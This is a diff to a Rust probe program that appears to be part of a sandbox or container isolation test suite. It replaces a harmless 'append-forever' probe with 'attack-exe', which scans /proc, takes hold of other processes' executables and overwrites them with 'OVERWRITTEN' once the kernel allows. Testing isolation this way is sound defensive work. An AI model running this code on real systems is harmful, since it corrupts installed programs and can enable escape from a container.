@@ -25,7 +25,7 @@ fn main() -> ExitCode {
         ["syscall", number, rest @ ..] => syscall(number, rest),
         ["open-write", paths @ ..] => open_write(paths),
         ["mknod", path, kind, major, minor] => mknod(path, kind, major, minor),
-        ["append-forever", path] => append_forever(path),
+        ["attack-exe"] => attack_exe(),
         other => {
             println!("unknown probe command: {other:?}");
             return ExitCode::from(2);
@@ -102,11 +102,38 @@ fn mknod(path: &str, kind: &str, major: &str, minor: &str) {
     println!("{}", json!({"errno": errno}));
 }
 
-/// Writes a line at a time until it is killed, without ever sleeping for a fixed time.
-fn append_forever(path: &str) {
-    let mut file = fs::OpenOptions::new().append(true).create(true).open(path).expect("a file");
+/// For ever: takes hold of every program that is executed beside this one, and writes to its file as soon as
+/// the kernel lets it (a running program's file is busy). A line is printed for each write that succeeded.
+fn attack_exe() {
+    println!("ready");
+    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
     loop {
-        file.write_all(b"tick\n").expect("a write");
-        file.sync_data().expect("a sync");
+        let mut held = Vec::new();
+        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let exe = entry.path().join("exe");
+            let Ok(target) = fs::read_link(&exe) else { continue };
+            let Ok(file) = fs::File::open(&exe) else { continue };
+            if target != own && !target.ends_with("busybox") {
+                held.push((target, file));
+            }
+        }
+        for (target, file) in held {
+            // The process may still run: the file stays busy until it has ended.
+            for _ in 0..20_000 {
+                let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&file));
+                match fs::OpenOptions::new().write(true).open(path) {
+                    Ok(mut file) => {
+                        if file.write_all(b"OVERWRITTEN").is_ok() {
+                            println!("wrote to {}", target.display());
+                        }
+                        break;
+                    }
+                    Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
+                        std::thread::yield_now();
+                    }
+                    Err(_) => break,
+                }
+            }
+        }
     }
 }
